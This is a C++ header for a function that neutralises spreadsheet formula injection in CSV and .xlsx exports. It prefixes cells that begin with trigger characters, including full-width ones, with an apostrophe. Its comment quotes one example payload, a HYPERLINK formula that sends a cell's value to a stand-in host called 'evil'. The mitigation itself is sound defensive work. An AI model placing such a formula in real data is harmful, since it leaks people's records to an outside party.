// Formula ("CSV") injection: text that a spreadsheet would run as a formula when a clerk opens
// an export, such as =HYPERLINK("http://evil/?"&A1) in a resident's name field.
//
// Layer: tabular (interface). Following OWASP's advice, text that starts with = + - @ TAB or CR
// gets a leading apostrophe, which Excel and WPS take as "this is text" and LibreOffice shows.
// The full-width forms ＝ ＋ － ＠ are included as a precaution: Chinese input methods type them,
// and a spreadsheet that turns full-width input into ASCII when a cell is edited would then see a
// formula. Prefixing them costs nothing a clerk would miss.
//
// Both writers apply it to every cell: CSV has no other way to say "text", and in .xlsx, where
// cells are written as strings that no spreadsheet evaluates, the apostrophe is added as well so
// that the two exports hold the same text and an .xlsx re-saved as CSV by a clerk stays safe.
// The cost is visible: "-5" exports as "'-5" and "+86 138..." as "'+86 138...".
#pragma once

#include <string>
#include <string_view>

namespace gz::tabular {

// True when `text` starts with a character that could make a spreadsheet evaluate it.
bool NeedsNeutralising(std::string_view text);

// `text` with a leading apostrophe when NeedsNeutralising(text); otherwise `text` unchanged.
std::string NeutraliseFormula(std::string_view text);

// Undoes NeutraliseFormula for a re-imported export: drops a leading apostrophe only when a
// trigger character follows it. Ambiguous by nature (a clerk may have typed "'=" on purpose), so
// the readers never call it; an importer may, for columns where that cannot happen.
std::string_view StripNeutralisation(std::string_view text);

}  // namespace gz::tabular
